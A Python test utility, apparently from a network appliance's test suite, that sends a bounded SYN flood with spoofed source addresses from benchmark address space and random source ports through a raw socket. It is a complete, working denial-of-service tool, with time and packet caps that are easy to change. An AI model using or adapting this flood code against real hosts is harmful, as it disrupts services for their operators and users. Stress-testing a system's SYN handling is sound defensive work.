#!/usr/bin/python3
"""A bounded SYN flood from a raw socket (run inside a test's namespace).

  synflood.py DST_IP DST_PORT SECONDS [MAX_PACKETS]

Sends TCP SYNs with spoofed source addresses from 198.19.0.0/16 (RFC 2544
benchmark space, routed by the appliance through its gateway, the
namespace's kernel, which does not forward: every SYN-ACK ends there) and
random source ports, as fast as one Python thread can, for at most SECONDS
(capped at 150) and at most MAX_PACKETS (default 30,000,000), or until
SIGTERM (the test stops it once its checks under the flood are done). Prints
"synflood: N packets in S s (R pps)". Needs CAP_NET_RAW; never leaves the
namespace it runs in (the destination must be on-link there).
"""
import os
import signal
import socket
import struct
import sys
import time

BATCH = 16384  # distinct pre-built SYNs, rebuilt with new sources each round


def csum(data):
    if len(data) & 1:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def build(dst, dport, rnd):
    """BATCH SYNs (IPv4 header + TCP header with an MSS option)."""
    pkts = []
    for i in range(BATCH):
        r = rnd[i * 8:(i + 1) * 8]
        src = bytes([198, 19, r[0], r[1] or 1])
        sport = 1024 + (r[2] << 8 | r[3]) % 64000
        seq = int.from_bytes(r[4:8], "big")
        opt = b"\x02\x04\x05\xb4"
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (6 << 4), 0x02, 64240, 0, 0) + opt
        ph = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        c = csum(ph + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0, 64, 6, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        pkts.append(ip + tcp)
    return pkts


def main():
    if len(sys.argv) not in (4, 5):
        sys.exit(__doc__)
    dst_s, dport, secs = sys.argv[1], int(sys.argv[2]), min(float(sys.argv[3]), 150.0)
    limit = int(sys.argv[4]) if len(sys.argv) == 5 else 30_000_000
    dst = socket.inet_aton(dst_s)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    start = time.monotonic()
    sent = 0
    addr = (dst_s, 0)
    while not stop and sent < limit and time.monotonic() - start < secs:
        pkts = build(dst, dport, os.urandom(BATCH * 8))
        for p in pkts:
            try:
                s.sendto(p, addr)
            except (BlockingIOError, OSError):
                continue  # device queue full: count only what went out
            sent += 1
            if sent & 1023 == 0 and (stop or time.monotonic() - start >= secs):
                break
            if sent >= limit:
                break
    el = time.monotonic() - start
    print(f"synflood: {sent} packets in {el:.1f}s ({sent / el:.0f} pps)", flush=True)


if __name__ == "__main__":
    main()
